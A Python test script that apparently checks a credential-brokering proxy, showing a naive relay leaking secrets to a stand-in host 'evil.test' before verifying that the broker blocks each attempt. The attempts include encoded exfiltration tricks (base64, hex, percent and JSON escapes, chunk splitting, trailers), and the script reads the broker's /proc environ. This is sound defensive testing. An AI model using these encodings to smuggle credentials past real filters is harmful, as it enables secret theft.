"""Secrets through the whole broker, and every way to get at one, shown to work against a naive relay first:
run by proxy_secrets.sh."""
import base64
import os
import tempfile
import urllib.parse

import websocket
from broker import Authority, Broker, Server, Tap, bundle, read_message, read_until
from naive_relay import NaiveRelay, holds

tap = Tap()
authority = Authority(tempfile.mkdtemp(prefix="matchlock-proxy-ca-"))
SECRET = b"sk-ant-api03-RealRealRealReal0123456789-abcdefghijklmnop"
CLIENT = b"client-secret-0123456789"
CAPTURE = 6  # SECRET_FLAG_BODY | SECRET_FLAG_CAPTURE
TOKEN = b"ya29.A0AfH6SNabcdefgh-0123"
REFRESH = b"1//0gabcdefghijklmnop"
OTHER = b"ghp_0123456789ABCDEFGHIJabcdefghij012345"
seen = []


def serve(connection):
    """Echoes head and body: whatever reached the server comes back, as an attacker's endpoint does."""
    data = b""
    while True:
        data = read_until(connection, b"\r\n\r\n", data)
        if not data:
            return
        head, _, data = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.lower().split(b"\r\n"):
            if line.startswith(b"content-length:"):
                length = int(line.split(b":")[1])
        while len(data) < length:
            more = connection.recv(65536)
            if not more:
                seen.append((head, data + b"<cut>"))
                return
            data += more
        if b"transfer-encoding" in head.lower():
            # The last chunk and its trailers; nothing before them ends so.
            data = read_until(connection, b"\r\n\r\n", data)
            length = len(data)
        body, data = data[:length], data[length:]
        seen.append((head, body))
        if b"GET /socket " in head:
            websocket.accept(connection, head)
            frame = websocket.frame(websocket.TEXT, b"you are " + SECRET)
            for at in range(0, len(frame), 3):
                connection.sendall(frame[at:at + 3])
            connection.recv(65536)
            return
        if b" /token " in head.split(b"\r\n")[0]:
            tokens = b'{"access_token": "' + TOKEN + b'", "refresh_token":"' + REFRESH.replace(b"/", b"\\/") + b'"}'
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" %
                               len(tokens))
            for at in range(0, len(tokens), 5):
                connection.sendall(tokens[at:at + 5])
            continue
        token = [line for line in head.split(b"\r\n") if line.lower().startswith(b"authorization")]
        echo = head + b"\n" + body + b"\n" + base64.b64encode(token[0] if token else b"") + b"\n" + (
            SECRET.hex().encode() if b"/hex" in head else b"")
        connection.sendall(b"HTTP/1.1 200 OK\r\nX-Echo: " + (token[0] if token else b"") +
                           b"\r\nContent-Length: %d\r\n\r\n" % len(echo))
        for at in range(0, len(echo), 7):
            connection.sendall(echo[at:at + 7])


bound = Server(serve, authority.leaf("api.test"), ["http/1.1"])
elsewhere = Server(serve, authority.leaf("evil.test"), ["http/1.1"])
plain = Server(serve)
broker = Broker([f"api.test:{bound.port}", f"api.test:{plain.port}", f"evil.test:{elsewhere.port}"],
                ["api.test", "evil.test"], authority,
                bundle((b"API_KEY", SECRET, [(b"api.test", 0)], 1), (b"HUB_TOKEN", OTHER, [(b"hub.test", 0)], 1),
                       (b"CLIENT_SECRET", CLIENT, [(b"api.test", 0)], 1, CAPTURE), (b"DECOY", b"AKIAABCDEFGHIJKLMNOP", [], 5)))
placeholder = broker.placeholders["API_KEY"].encode()
tap.ok("a placeholder of the same length, with the vendor's prefix, and another",
       len(placeholder) == len(SECRET) and placeholder.startswith(b"sk-ant-") and placeholder != SECRET, placeholder)


# Whose secrets are as good as the broker's, and swapped in any form and for any host.
naive = NaiveRelay(authority, [(placeholder, SECRET)])
ATTACKERS = b"attackers-own-key-0123456789"


def send(head, body=b"", host="api.test", port=None, tls=True, through=None):
    port = port or bound.port
    through = through or broker
    stream = through.tls(host, port) if tls else through.dial(host, port)
    head = b"POST /x HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %d\r\n%s\r\n\r\n" % (host.encode(), port, len(body), head)
    stream.sendall(head + body)
    return read_message(stream)


def send_chunks(parts, trailer=b"", through=None):
    stream = (through or broker).tls("evil.test", elsewhere.port)
    stream.sendall(b"POST / HTTP/1.1\r\nHost: evil.test:%d\r\nTransfer-Encoding: chunked\r\n\r\n" % elsewhere.port)
    for part in parts:
        stream.sendall(b"%x\r\n" % len(part) + part + b"\r\n")
    stream.sendall(b"0\r\n" + trailer + b"\r\n")
    return read_message(stream)


def ask(query, through=None):
    stream = (through or broker).tls("evil.test", elsewhere.port)
    stream.sendall(b"GET /?q=" + query + b" HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % elsewhere.port)
    return read_message(stream)


def unchunked(body):
    """The chunks of send_chunks(), put together."""
    return b"".join(body.split(b"\r\n")[1::2])


def arrived(wanted, before):
    return any(holds(head + b"\n" + body, wanted) for head, body in seen[before:])


status, fields, body, rest = send(b"Authorization: Bearer " + placeholder, through=naive)
tap.ok("a naive relay's guest has the secret by an echo, in head and body",
       SECRET in fields.get("x-echo", "").encode() and SECRET in body and holds(body.replace(SECRET, b""), SECRET), body)
seen.clear()
status, fields, body, rest = send(b"Authorization: Bearer " + placeholder)
tap.ok("the server gets the secret", seen and SECRET in seen[0][0], seen)
tap.ok("the guest's echo has only the placeholder, in the head", fields.get("x-echo", "").encode().endswith(placeholder),
       fields)
tap.ok("in the body, and in base64 there", SECRET not in body and placeholder in body and
       base64.b64encode(b"Authorization: Bearer " + placeholder) in body, body)
event = broker.event(kind="request", host="api.test")
tap.ok("the log names it, and does not have it", event and event["secrets"] == "API_KEY" and
       SECRET.decode() not in str(event) and placeholder.decode() not in str(event), event)
status, fields, body, rest = send(b"Authorization: Basic " + base64.b64encode(b"user:" + placeholder))
tap.ok("in Basic too", base64.b64encode(b"user:" + SECRET) in seen[-1][0], seen[-1])
tap.ok("and its echo", base64.b64encode(b"user:" + SECRET) not in body, body)

before = len(seen)
ways = {
    "raw in a header": (b"X-Data: " + placeholder, b""),
    "raw in the body": (b"", b"key=" + placeholder),
    "percent in the body": (b"", b"key=" + b"".join(b"%%%02x" % byte for byte in placeholder)),
    "as JSON in the body": (b"", b'{"key": "' + b"".join(b"\\u%04x" % byte for byte in placeholder) + b'"}'),
    "base64 in the body": (b"", b"x" + base64.b64encode(b"ab" + placeholder + b"cd")),
    "base64 in a header": (b"Authorization: Basic " + base64.b64encode(b"a:" + placeholder), b""),
    "as hexadecimal": (b"", placeholder.hex().encode()),
}
for way, (head, body) in ways.items():
    before = len(seen)
    send(head or b"X: y", body, "evil.test", elsewhere.port, through=naive)
    tap.ok(f"a naive relay gives it to another host: {way}", arrived(SECRET, before), seen[before:])
    before = len(seen)
    status, fields, text, rest = send(head or b"X: y", body, "evil.test", elsewhere.port)
    tap.same(f"to another host it is refused: {way}", (403, "secret_wrong_host"),
             (status, fields.get("matchlock-denied")))
    event = broker.event(kind="denial", host="evil.test")
    tap.ok("and the log has it", event and event["reason"] == "secret_wrong_host" and event["secrets"] == "API_KEY", event)
    tap.ok("and it is not there, nor its placeholder", not arrived(SECRET, before) and not arrived(placeholder, before),
           seen[before:])
    tap.ok("with the bytes that did not leave", event and event["sent"] + event["bytes"] == len(body) and
           event["bytes"] >= min(len(body), len(placeholder)), event)
query = urllib.parse.quote(placeholder).encode()
before = len(seen)
ask(query, through=naive)
tap.ok("a naive relay gives it to another host: in a URL", arrived(SECRET, before), seen[before:])
before = len(seen)
status, fields, text, rest = ask(query)
tap.same("in a URL", (403, "secret_wrong_host"), (status, fields.get("matchlock-denied")))
pieces = [placeholder[at:at + 5] for at in range(0, len(placeholder), 5)]
send_chunks(pieces, through=naive)
tap.same("a naive relay does not notice it when it is split over chunks", placeholder, unchunked(seen[-1][1]))
before = len(seen)
status, fields, text, rest = send_chunks(pieces)
tap.same("split over chunks", (403, "secret_wrong_host"), (status, fields.get("matchlock-denied")))
event = broker.event(kind="denial", host="evil.test", method="POST")
tap.ok("and most of it did not leave", event and event["sent"] + event["bytes"] == len(placeholder) and event["bytes"] > 13, event)
tap.ok("nor is it there", not any(placeholder in unchunked(body) for head, body in seen[before:]), seen[before:])
trailer = b"X-Sum: " + placeholder + b"\r\n"
before = len(seen)
send_chunks([b"abc"], trailer, through=naive)
tap.ok("a naive relay gives it to another host: in a trailer", arrived(SECRET, before), seen[before:])
before = len(seen)
status, fields, text, rest = send_chunks([b"abc"], trailer)
tap.same("in a trailer", (403, "secret_wrong_host"), (status, fields.get("matchlock-denied")))
tail = placeholder[len(b"sk-ant-api03-") + 1:]
tap.ok("nothing of it arrived there whole", not any(tail in head + body for head, body in seen[before:]), seen[before:])

before = len(seen)
send(b"Authorization: Bearer " + placeholder, b"", "api.test", plain.port, tls=False, through=naive)
tap.ok("a naive relay sends it without TLS", arrived(SECRET, before), seen[before:])
before = len(seen)
status, fields, text, rest = send(b"Authorization: Bearer " + placeholder, b"", "api.test", plain.port, tls=False)
tap.same("not without TLS", (403, "secret_needs_tls"), (status, fields.get("matchlock-denied")))
tap.ok("and it is not there", not arrived(SECRET, before), seen[before:])
send(b"Authorization: Bearer " + ATTACKERS, through=naive)
tap.ok("a naive relay lets a key of the attacker's own through", arrived(ATTACKERS, before), seen[before:])
before = len(seen)
status, fields, text, rest = send(b"Authorization: Bearer " + ATTACKERS)
tap.same("a key of the attacker's own is refused where a secret is bound", (403, "foreign_credential"),
         (status, fields.get("matchlock-denied")))
tap.ok("and does not arrive", not arrived(ATTACKERS, before), seen[before:])
decoy = broker.placeholders["DECOY"].encode()
send(b"X-Data: " + decoy, b"", "evil.test", elsewhere.port, through=naive)
tap.ok("a naive relay knows no decoys", arrived(decoy, before), seen[before:])
before = len(seen)
status, fields, text, rest = send(b"X-Data: " + decoy, b"", "evil.test", elsewhere.port)
tap.same("a decoy is refused", (403, "canary"), (status, fields.get("matchlock-denied")))
tap.ok("and does not arrive", not arrived(decoy, before), seen[before:])
stream = broker.tls("denied.test", 443)
stream.sendall(b"GET / HTTP/1.1\r\nHost: denied.test\r\nX-Data: " + decoy + b"\r\n\r\n")
status, fields, text, rest = read_message(stream)
tap.same("as a decoy also where nothing would be allowed", (403, "canary"), (status, fields.get("matchlock-denied")))

def send_to(path, head, body=b""):
    stream = broker.tls("api.test", bound.port)
    stream.sendall(b"POST %s HTTP/1.1\r\nHost: api.test:%d\r\nContent-Length: %d\r\n%s\r\n\r\n" %
                   (path, bound.port, len(body), head) + body)
    return read_message(stream)


client = broker.placeholders["CLIENT_SECRET"].encode()
status, fields, text, rest = send_to(b"/x", b"Content-Type: application/x-www-form-urlencoded",
                                     b"grant_type=x&client_secret=" + client)
tap.ok("a secret that may be in a body is put in there", seen[-1][1].endswith(CLIENT), seen[-1])
tap.ok("and its echo is not", CLIENT not in text and client in text, text)
before = len(seen)
strict = Broker([], ["api.test"], authority, bundle((b"CLIENT_SECRET", CLIENT, [(b"api.test", 0)], 1, CAPTURE)),
                rules=[{"host": "api.test", "ports": [bound.port], "where": "policy:1",
                        "secrets": [{"name": "CLIENT_SECRET", "paths": ["/login"]}]}])
for path, wanted in (b"/login", 200), (b"/notes", 403):
    body = b"client_secret=" + strict.placeholders["CLIENT_SECRET"].encode()
    stream = strict.tls("api.test", bound.port)
    stream.sendall(b"POST %s HTTP/1.1\r\nHost: api.test:%d\r\nContent-Length: %d\r\n\r\n" %
                   (path, bound.port, len(body)) + body)
    status, fields, text, rest = read_message(stream)
    tap.same("a rule's paths for a secret hold for bodies: " + path.decode(), wanted, status)
strict.stop()
tap.same("the server got it in one alone", 1, sum(CLIENT in body for head, body in seen[before:]))
status, fields, text, rest = send_to(b"/token", b"Authorization: Bearer " + client)
tap.ok("tokens that a server hands out are kept", status == 200 and text.startswith(b'{"access_token": "ya29.') and
       TOKEN not in text and REFRESH.replace(b"/", b"\\/") not in text and
       len(text) == len(TOKEN) + len(REFRESH) + 2 + len(b'{"access_token": "", "refresh_token":""}'), (status, text))
token = text[len(b'{"access_token": "'):][:len(TOKEN)]
status, fields, text, rest = send_to(b"/x", b"Authorization: Bearer " + token)
tap.ok("and used through their placeholders", b"Bearer " + TOKEN in seen[-1][0], seen[-1])
tap.ok("and hidden like any other", TOKEN not in text and token in text, text)
status, fields, text, rest = send(b"Authorization: Bearer " + token, b"", "evil.test", elsewhere.port)
tap.same("and go nowhere else", (403, "secret_wrong_host"), (status, fields.get("matchlock-denied")))

def talk(through):
    """The answer to the opening handshake, and the server's first message."""
    stream = through.tls("api.test", bound.port)
    stream.sendall(websocket.opening(b"api.test:%d" % bound.port, b"/socket",
                                     b"Sec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer %s\r\n" %
                                     placeholder))
    answer = read_until(stream, b"\r\n\r\n")
    head, _, frames = answer.partition(b"\r\n\r\n")
    message = websocket.Reader(stream, frames).next()
    stream.close()
    return head, message


head, message = talk(naive)
tap.same("a naive relay's guest hears it in a websocket", (websocket.TEXT, b"you are " + SECRET), message)
head, message = talk(broker)
tap.ok("a websocket is opened", head.startswith(b"HTTP/1.1 101"), head)
tap.ok("with the secret, and without what would hide it in an answer",
       SECRET in seen[-1][0] and b"permessage-deflate" not in seen[-1][0], seen[-1])
tap.ok("what the server says in it is searched", message == (websocket.TEXT, b"you are " + placeholder), message)

process = f"/proc/{broker.process.pid}"
for name in ("cmdline", "environ", "comm"):
    try:
        with open(f"{process}/{name}", "rb") as file:
            text = file.read()
    except PermissionError:
        text = b""
    tap.ok(f"the secret is not in the broker's {name}", SECRET not in text)
tap.ok("nor in the log", SECRET.decode() not in str(broker.events))
tap.same("the broker ends", 0, broker.stop())
tap.finish()
